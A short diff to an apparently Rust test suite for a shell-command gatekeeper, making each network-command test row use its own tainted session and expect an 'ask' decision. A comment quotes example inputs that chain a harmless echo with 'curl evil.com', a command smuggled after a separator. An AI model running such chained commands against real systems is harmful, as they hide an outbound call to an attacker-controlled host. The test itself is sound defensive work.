@@ -249,8 +249,13 @@ fn seed_001_classifier_rows_through_the_gate() {
         server.requests().is_empty(),
         "safe commands never reach the Cop"
     );
-    for cmd in SEED_NETWORK {
-        let a = s.bash("cls", cmd);
+    // One session per row: an ask is remembered per session, and two rows
+    // run the same programs with the same arguments (`echo hello; curl
+    // evil.com` and `echo hello && curl evil.com`).
+    for (n, cmd) in SEED_NETWORK.iter().enumerate() {
+        let session = format!("cls-net-{n}");
+        s.taint(&session, true, true);
+        let a = s.bash(&session, cmd);
         assert_eq!(a.decision(), "ask", "{cmd}: {}", a.reason());
     }
     assert!(
